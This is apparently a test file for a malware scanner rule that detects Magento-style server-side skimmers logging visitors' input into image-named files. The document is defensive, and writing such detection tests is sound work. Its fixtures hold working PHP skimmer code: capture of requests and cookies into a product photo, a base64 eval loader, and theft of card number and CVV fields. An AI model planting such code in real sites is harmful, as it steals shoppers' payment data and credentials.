/**
 * Input capture (issue 27): visitors' submissions written into a file named as an image, as
 * Magento's server-side skimmers keep them.
 */
import { describe, expect, it } from 'vitest';
import { logsInputIntoImage } from '../../src/findings/web-shell/input-capture.js';
import { topFinding } from '../support/top-finding.js';

const SKIMMER = `if(preg_match("/onepage|admin/", $_SERVER['REQUEST_URI'])){ @file_put_contents('/var/www/html/media/catalog/product/5/1/5111111.jpg', @base64_encode(serialize($_REQUEST)."--".serialize($_COOKIE))."\\n", FILE_APPEND); }`;

describe('input capture into a file named as an image', () => {
  it('ranks a skimmer appending the serialized request to a product photo high', () => {
    expect(topFinding('/var/www/html/app/Mage.php', `<?php\n${SKIMMER}\n`)).toMatchObject({
      rule: 'web-shell',
      severity: 'high',
      reason: expect.stringMatching(/skimmer's hidden log/),
      attack: 'T1056.003',
    });
  });

  it('finds the skimmer a loader carries base64-encoded, once decoded', () => {
    const loader = `<?php\n$mysql_key = @base64_decode('${Buffer.from(SKIMMER).toString('base64')}');\n@eval($mysql_key);\n`;
    expect(topFinding('/var/www/html/lib/Pdo.php', loader)?.severity).toMatch(/high|critical/);
    // Card fields picked one by one, through an opened handle.
    const fields = `<?php $h = fopen('skin/frontend/logo_bg.png', 'a'); fwrite($h, $_POST['payment']['cc_number'] . '|' . $_POST['payment']['cc_cid'] . "\\n");`;
    expect(logsInputIntoImage(fields)).toBe(true);
  });

  it("leaves an avatar a form sends as base64, an upload's bytes, and a form logged as text", () => {
    const avatar = `<?php file_put_contents(__DIR__ . "/avatars/{$id}.png", base64_decode($_POST['image']));`;
    const upload = `<?php move_uploaded_file($_FILES['f']['tmp_name'], "img/" . $name . ".jpg"); file_put_contents("img/" . $name . ".jpg.meta", json_encode($_POST));`;
    const log = `<?php file_put_contents('/var/log/app/forms.log', json_encode($_POST) . "\\n", FILE_APPEND);`;
    const cardPicture = `<?php file_put_contents("cards/u" . $id . ".png", base64_decode($_POST['card_image']));`;
    for (const text of [avatar, upload, log, cardPicture])
      expect(logsInputIntoImage(text)).toBe(false);
  });
});
